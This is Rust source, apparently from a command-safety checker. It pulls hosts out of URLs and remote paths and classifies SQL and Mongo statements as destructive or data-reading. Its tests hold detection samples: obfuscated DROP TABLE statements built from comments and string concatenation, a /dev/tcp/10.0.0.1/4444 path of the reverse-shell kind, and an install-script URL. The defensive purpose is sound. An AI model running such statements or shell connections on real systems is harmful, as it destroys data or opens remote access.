/// Field `n` of `a:b:[v6::addr]:d` (brackets keep an address whole), without brackets.
fn colon_field(word: &str, n: usize) -> Option<String> {
    let mut fields = Vec::new();
    let mut current = String::new();
    let mut depth = 0;
    for c in word.chars() {
        match c {
            '[' => depth += 1,
            ']' => depth -= 1,
            ':' if depth == 0 => {
                fields.push(std::mem::take(&mut current));
                continue;
            }
            _ => {}
        }
        current.push(c);
    }
    fields.push(current);
    let field = fields.get(n)?.trim_matches(['[', ']']).to_string();
    // An IPv6 address keeps its brackets, so it reads as a host, not `host:port`.
    let field = if field.contains(':') {
        format!("[{field}]")
    } else {
        field
    };
    (!field.is_empty()).then_some(field)
}

pub(crate) fn url_host(word: &str) -> Option<String> {
    let rest = match word.split_once("://") {
        Some((scheme, rest))
            if !scheme.is_empty()
                && scheme
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c)) =>
        {
            rest
        }
        Some(_) => return None,
        None => {
            // `curl example.com/x`, `nc host 80`: a word with a dot or a port, no slash first.
            if word.starts_with(['/', '.', '-', '~'])
                || !(word.contains('.') || word.contains(':') || word == "localhost")
            {
                return None;
            }
            // httpie items (`key=value`, `n:=1`, `Header:value`) are not hosts: a bare
            // `host:port` has a dotted name (or localhost, or `[v6]`) and digits after it.
            let head = word.split('/').next().unwrap_or(word);
            if head.contains('=') {
                return None;
            }
            if let Some((name, port)) = head.rsplit_once(':')
                && !head.starts_with('[')
                && !((name.contains('.') || name == "localhost")
                    && (port.is_empty() || port.bytes().all(|b| b.is_ascii_digit())))
            {
                return None;
            }
            word
        }
    };
    let host = crate::normalize::host::normalize_host(&host_of(rest));
    (!host.is_empty()).then_some(host)
}

/// The file name `wget URL` or `curl -O URL` saves to.
fn url_basename(word: &str) -> Option<String> {
    let (_, rest) = word.split_once("://")?;
    let path = rest.split(['?', '#']).next().unwrap_or(rest);
    let name = path
        .rsplit('/')
        .next()
        .filter(|n| !n.is_empty() && path.contains('/'))?;
    Some(name.to_string())
}

/// A select list of aggregates and constants only (`count(*)`, `max(id)`, `1`), up to FROM:
/// the words after `select` as [`classify_sql`] splits them.
fn only_aggregates(after_select: &[&str]) -> bool {
    const AGGREGATES: &[&str] = &[
        "count",
        "sum",
        "avg",
        "min",
        "max",
        "version",
        "now",
        "current_date",
        "current_timestamp",
        "current_user",
        "as",
        "distinct",
    ];
    let list: Vec<&&str> = after_select
        .iter()
        .take_while(|w| !matches!(**w, "from" | "into" | "where" | ";"))
        .take(32)
        .collect();
    !list.is_empty()
        && list.iter().all(|w| {
            AGGREGATES.contains(w)
                || w.chars().all(|c| c.is_ascii_digit())
                || matches!(**w, "n" | "total" | "c" | "cnt")
        })
}

/// The shell commands a statement hands rows to: `TO PROGRAM 'cmd'` (quoted either way)
/// and psql's `\o |cmd` (to the end of the line).
fn commands_fed_rows(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut out = Vec::new();
    for (at, _) in lower.match_indices("program") {
        let before = lower[..at].trim_end();
        if !before.ends_with(" to") {
            continue;
        }
        let rest = text[at + "program".len()..].trim_start();
        if let Some(quote) = rest.chars().next().filter(|c| *c == '\'' || *c == '"')
            && let Some(end) = rest[1..].find(quote)
        {
            out.push(rest[1..1 + end].to_string());
        }
    }
    for (at, _) in lower.match_indices("\\o") {
        let rest = text[at + 2..].trim_start();
        if let Some(code) = rest.strip_prefix('|') {
            out.push(code.lines().next().unwrap_or("").to_string());
        }
    }
    out
}

/// Statement classes in SQL (or Redis, or a Mongo shell script): comments removed,
/// string concatenations joined (`'DR' || 'OP TABLE x'`), case ignored.
pub fn classify_sql(text: &str) -> Vec<SqlKind> {
    let normalized = normalize_sql(text);
    let words: Vec<&str> = normalized
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
        .filter(|w| !w.is_empty())
        .collect();
    let mut kinds = Vec::new();
    let mut add = |k| {
        if !kinds.contains(&k) {
            kinds.push(k)
        }
    };
    const DROPPABLE: &[&str] = &[
        "table",
        "database",
        "schema",
        "index",
        "view",
        "collection",
        "user",
        "role",
        "keyspace",
        "materialized",
        "function",
        "trigger",
        "sequence",
        "type",
        "extension",
        "owned",
        "column",
        "constraint",
        "procedure",
    ];
    for (i, w) in words.iter().enumerate() {
        let next = words.get(i + 1).copied().unwrap_or("");
        match *w {
            "drop" if DROPPABLE.contains(&next) || next == "if" => add(SqlKind::Drop),
            "truncate" => add(SqlKind::Truncate),
            "delete" if next == "from" || words.get(i + 2) == Some(&"from") => add(SqlKind::Delete),
            "delete" if i == 0 => add(SqlKind::Delete),
            "update" if words[i + 1..].iter().take(4).any(|x| *x == "set") => add(SqlKind::Update),
            "alter" if ["table", "database", "schema", "user", "role"].contains(&next) => {
                add(SqlKind::Alter)
            }
            "flushall" | "flushdb" => add(SqlKind::Flush),
            "dropdatabase" => add(SqlKind::Drop),
            // Data read out: a query, an export (`COPY t TO ...`, psql's `\copy`), `\o`.
            "with" | "table" if i == 0 => add(SqlKind::Read),
            // Counts and other aggregates read no rows out (`SELECT count(*) FROM users`).
            "select" if !only_aggregates(&words[i + 1..]) => add(SqlKind::Read),
            "show" | "o" => add(SqlKind::Read),
            "copy" if words[i + 1..].iter().take(40).any(|x| *x == "to") => add(SqlKind::Read),
            "drop" => add(SqlKind::Drop),
            _ => {}
        }
        // Mongo shell: db.users.drop(), deleteMany({}), remove({}), updateMany(...).
        let method = w.rsplit('.').next().unwrap_or(w);
        if w.contains('.') {
            match method {
                "drop" | "dropdatabase" => add(SqlKind::Drop),
                "deletemany" | "deleteone" | "remove" | "findoneanddelete" => add(SqlKind::Delete),
                "updatemany" | "updateone" | "replaceone" => add(SqlKind::Update),
                "find" | "findone" | "aggregate" | "export" => add(SqlKind::Read),
                _ => {}
            }
        }
    }
    kinds
}

fn normalize_sql(text: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let mut out = String::with_capacity(lower.len());
    let bytes = lower.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'/' && bytes.get(i + 1) == Some(&b'*') {
            // `drop/**/table`: a comment separates words like a space.
            match lower[i + 2..].find("*/") {
                Some(end) => i += end + 4,
                None => i = bytes.len(),
            }
            out.push(' ');
            continue;
        }
        if bytes[i] == b'-' && bytes.get(i + 1) == Some(&b'-') {
            while i < bytes.len() && bytes[i] != b'\n' {
                i += 1;
            }
            continue;
        }
        out.push(bytes[i] as char);
        i += 1;
    }
    // `'dr' || 'op table'` and `concat('dr', 'op ...')` build statements from pieces.
    let mut joined = out.clone();
    for sep in ["' || '", "'||'", "' ||'", "'|| '", "', '", "','"] {
        joined = joined.replace(sep, "");
    }
    if joined != out {
        out.push(' ');
        out.push_str(&joined);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sql_is_classified_through_comments_and_concatenation() {
        assert_eq!(classify_sql("DROP TABLE users"), [SqlKind::Drop]);
        assert_eq!(classify_sql("drop/**/table users"), [SqlKind::Drop]);
        assert!(
            classify_sql("DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$")
                .contains(&SqlKind::Drop)
        );
        assert_eq!(classify_sql("DELETE\n FROM users"), [SqlKind::Delete]);
        assert_eq!(classify_sql("UPDATE users SET role = 1"), [SqlKind::Update]);
        assert_eq!(classify_sql("db.users.deleteMany({})"), [SqlKind::Delete]);
        // A query reads data out and destroys nothing.
        assert_eq!(
            classify_sql("SELECT * FROM users WHERE go_live_at < now()"),
            [SqlKind::Read]
        );
        assert_eq!(classify_sql("COPY patients TO STDOUT"), [SqlKind::Read]);
        assert!(classify_sql("select 'drop table' as x -- drop table y").contains(&SqlKind::Drop));
    }

    #[test]
    fn hosts_come_from_urls_and_remote_paths() {
        assert_eq!(
            url_host("https://u:p@Get.Example.com:8443/x").as_deref(),
            Some("get.example.com")
        );
        assert_eq!(
            url_host("localhost:3000/health").as_deref(),
            Some("localhost")
        );
        assert_eq!(url_host("./file"), None);
        assert_eq!(
            remote_host("dev@host.example:/tmp").as_deref(),
            Some("host.example")
        );
        assert_eq!(remote_host("./a:b"), None);
        assert_eq!(
            url_basename("https://x.example/a/install.sh?v=1").as_deref(),
            Some("install.sh")
        );
        assert_eq!(
            dev_tcp_host("/dev/tcp/10.0.0.1/4444").as_deref(),
            Some("10.0.0.1")
        );
    }
}
